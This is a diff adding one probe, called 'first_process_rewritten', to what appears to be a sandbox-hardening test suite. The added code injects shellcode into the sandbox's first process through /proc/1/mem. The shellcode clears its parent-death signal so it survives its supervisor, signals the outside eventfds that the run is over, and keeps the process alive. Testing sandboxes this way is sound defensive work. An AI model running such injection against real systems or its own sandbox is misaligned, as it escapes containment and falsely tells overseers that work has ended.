@@ -91,6 +91,28 @@ call("write its memory", 311 if x86 else 271, 1, 0, 0, 0, 0, 0)
 call("take its descriptor", 438, 0, 0, 0)
 call("compare", 312 if x86 else 272, 1, 1, 0, 0, 0)
 
+#: first_process_rewritten: COMPLETED, BROKEN, OUT_OF_TIME
+# Lets the first process of the sandbox forget that it ends with those outside, and tell them that all is over.
+import os, platform, struct, time
+if platform.machine() == "x86_64":
+    counters = [int(name) for name in os.listdir("/proc/1/fd") if "eventfd" in os.readlink("/proc/1/fd/" + name)]
+    forget = b"\xb8" + struct.pack("<I", 157) + b"\xbf\x01\0\0\0\x31\xf6\x0f\x05"
+    tell = b"\x6a\x01" + b"".join(
+        b"\xb8\x01\0\0\0\xbf" + struct.pack("<I", counter) + b"\x48\x89\xe6\xba\x08\0\0\0\x0f\x05" for counter in counters)
+    stay = b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"
+    with open("/proc/1/syscall") as file:
+        place = int(file.read().split()[-1], 16)
+    with open("/proc/1/mem", "r+b", 0) as memory:
+        memory.seek(place)
+        memory.write(forget + tell + stay)
+    if os.fork() == 0:
+        if os.fork() == 0:
+            os._exit(0)
+        os._exit(0)
+    os.wait()
+    time.sleep(1)
+    os._exit(0)
+
 #: namespaces: COMPLETED
 import ctypes, platform, shutil, subprocess
 x86 = platform.machine() == "x86_64"
